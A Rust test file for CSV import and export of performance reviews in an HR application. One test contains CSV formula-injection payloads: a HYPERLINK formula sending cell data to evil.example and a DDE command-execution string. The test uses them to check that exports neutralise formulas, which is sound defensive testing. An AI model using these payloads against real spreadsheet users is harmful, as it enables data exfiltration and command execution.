//! Import and export against an in-memory database.

use super::*;
use crate::server::testing::{pid, seeded_db, user};
use surrealdb::types::RecordId;

fn today() -> Day {
    Day::parse("2026-11-28").unwrap()
}

async fn email(db: &Db, i: usize) -> String {
    let mut res = db
        .query("SELECT VALUE email FROM ONLY $p")
        .bind(("p", RecordId::new("person", pid(i).as_str())))
        .await
        .unwrap();
    let e: Option<String> = res.take(0).unwrap();
    e.unwrap()
}

async fn count(db: &Db, table: &str) -> i64 {
    let sql = match table {
        "review" => "(SELECT count() FROM review GROUP ALL)[0].count ?? 0",
        "review_cycle" => "(SELECT count() FROM review_cycle GROUP ALL)[0].count ?? 0",
        other => panic!("no count for {other}"),
    };
    let mut res = db.query(sql).await.unwrap();
    let n: Option<i64> = res.take(0).unwrap();
    n.unwrap_or(0)
}

/// A file: p2's manager review by p1 (two competencies and an overall), a
/// self review, and two peer reviews.
async fn history(db: &Db) -> String {
    let (a, b, c, d) = (
        email(db, 2).await,
        email(db, 1).await,
        email(db, 3).await,
        email(db, 4).await,
    );
    let h = COLUMNS.join(",");
    format!(
        "{h}\n\
         2025 H2,2025-07-01,2025-12-31,{a},{b},manager,Delivery,5,\"Led the launch, end to end\",2026-01-12\n\
         2025 H2,2025-07-01,2025-12-31,{a},{b},manager,Collaboration,4,,2026-01-12\n\
         2025 H2,2025-07-01,2025-12-31,{a},{b},manager,overall,5,,2026-01-12\n\
         2025 H2,2025-07-01,2025-12-31,{a},{a},self,Delivery,4,,2026-01-05\n\
         2025 H2,2025-07-01,2025-12-31,{a},{c},peer,Delivery,4,Peer words,2026-01-08\n\
         2025 H2,2025-07-01,2025-12-31,{a},{d},peer,Delivery,3,More peer words,2026-01-08\n"
    )
}

#[tokio::test]
async fn a_good_file_is_stored_once_however_often_it_is_imported() {
    let (db, _) = seeded_db().await;
    let text = history(&db).await;
    let first = import(&db, &text, today()).await.unwrap();
    assert_eq!(
        first,
        ImportSummary {
            cycles: 1,
            reviews: 4,
            ratings: 6
        }
    );
    let again = import(&db, &text, today()).await.unwrap();
    assert_eq!(again, first);
    assert_eq!(count(&db, "review_cycle").await, 1);
    assert_eq!(count(&db, "review").await, 4);

    let scores = repo::last_manager_scores(&db, &[RecordId::new("person", pid(2).as_str())])
        .await
        .unwrap();
    assert_eq!(scores.values().copied().collect::<Vec<_>>(), [5.0]);
}

#[tokio::test]
async fn one_bad_row_stores_nothing_and_every_bad_row_is_named() {
    let (db, _) = seeded_db().await;
    let mut text = history(&db).await;
    text.push_str("2025 H2,2025-07-01,2025-12-31,nobody@nowhere.test,x@y.test,peer,Delivery,9,,2026-01-08\n");
    text.push_str("2025 H2,2025-07-01,2025-12-31\n");
    let e = import(&db, &text, today()).await.unwrap_err();
    let AppError::Invalid(msg) = e else { panic!("{e:?}") };
    assert!(msg.starts_with("Nothing was imported: 2 row(s) need fixing."), "{msg}");
    assert!(
        msg.contains("Line 8:") && msg.contains("nobody@nowhere.test is not anyone in Tend"),
        "{msg}"
    );
    assert!(msg.contains("rating \"9\""), "{msg}");
    assert!(msg.contains("Line 9 has 3 fields"), "{msg}");
    assert_eq!(count(&db, "review").await, 0);
    assert_eq!(count(&db, "review_cycle").await, 0);
}

#[tokio::test]
async fn wrong_columns_and_unreadable_files_are_refused_plainly() {
    let (db, _) = seeded_db().await;
    let e = import(&db, "name,score\nAna,4\n", today()).await.unwrap_err();
    assert!(e.to_string().contains("missing column(s): cycle, period_start"), "{e}");
    assert!(e.to_string().contains("unexpected column(s): name, score"), "{e}");
    let e = import(&db, "", today()).await.unwrap_err();
    assert!(e.to_string().contains("The file is empty"), "{e}");
}

#[tokio::test]
async fn a_re_import_replaces_the_ratings_it_changes() {
    let (db, _) = seeded_db().await;
    let text = history(&db).await;
    import(&db, &text, today()).await.unwrap();
    let changed = text.replace("manager,overall,5", "manager,overall,3");
    import(&db, &changed, today()).await.unwrap();
    assert_eq!(count(&db, "review").await, 4);
    let scores = repo::last_manager_scores(&db, &[RecordId::new("person", pid(2).as_str())])
        .await
        .unwrap();
    assert_eq!(scores.values().copied().collect::<Vec<_>>(), [3.0]);
}

#[tokio::test]
async fn export_writes_the_named_reviews_in_the_import_format_and_never_peer_answers() {
    let (db, _) = seeded_db().await;
    let text = history(&db).await;
    import(&db, &text, today()).await.unwrap();
    let out = export(&db, "2025 H2").await.unwrap();
    assert!(out.starts_with(&COLUMNS.join(",")), "{out}");
    assert!(out.contains("\"Led the launch, end to end\""), "{out}");
    assert!(!out.contains("Peer words") && !out.contains(",peer,"), "{out}");
    assert_eq!(out.lines().count(), 1 + 4);
    // What is exported imports again without adding anything.
    import(&db, &out, today()).await.unwrap();
    assert_eq!(count(&db, "review").await, 4);
    assert_eq!(export(&db, "no such cycle").await.unwrap_err(), AppError::NotFound);
}

/// Comments a spreadsheet would run: the export never starts a cell with a
/// formula character, and importing the export gives back the same text.
#[tokio::test]
async fn formula_comments_are_exported_as_text_and_import_back_unchanged() {
    let (db, _) = seeded_db().await;
    let (a, b) = (email(&db, 2).await, email(&db, 1).await);
    let comments = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "'=already quoted",
    ];
    let mut w = crate::server::csv::CsvFile::new(&COLUMNS).unwrap();
    for (i, c) in comments.iter().enumerate() {
        let competency = format!("Skill {i}");
        w.row(&[
            "2025 H2",
            "2025-07-01",
            "2025-12-31",
            &a,
            &b,
            "manager",
            &competency,
            "3",
            c,
            "2026-01-12",
        ])
        .unwrap();
    }
    import(&db, &w.finish().unwrap(), today()).await.unwrap();
    let out = export(&db, "2025 H2").await.unwrap();
    let mut cells = csv::ReaderBuilder::new().from_reader(out.as_bytes());
    for record in cells.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {out}");
        }
    }
    // Exported, imported again, exported again: the same file and the same text.
    import(&db, &out, today()).await.unwrap();
    assert_eq!(export(&db, "2025 H2").await.unwrap(), out);
    let mut res = db
        .query("SELECT VALUE ratings.comment FROM review WHERE cycle.name = '2025 H2'")
        .await
        .unwrap();
    let stored: Vec<Vec<String>> = res.take(0).unwrap();
    let mut stored: Vec<String> = stored.into_iter().flatten().collect();
    stored.sort();
    let mut want: Vec<String> = comments.iter().map(|c| c.to_string()).collect();
    want.sort();
    assert_eq!(stored, want);
}

#[tokio::test]
async fn only_hr_imports_and_exports() {
    let (db, demo) = seeded_db().await;
    let text = history(&db).await;
    let manager = user(&db, demo.manager).await;
    assert_eq!(
        import_as(&db, &manager, &text, today()).await.unwrap_err(),
        AppError::Forbidden
    );
    assert_eq!(count(&db, "review").await, 0);
    let hr = user(&db, demo.hr).await;
    import_as(&db, &hr, &text, today()).await.unwrap();
    assert_eq!(
        export_as(&db, &manager, "2025 H2").await.unwrap_err(),
        AppError::Forbidden
    );
    assert!(export_as(&db, &hr, "2025 H2").await.is_ok());
}
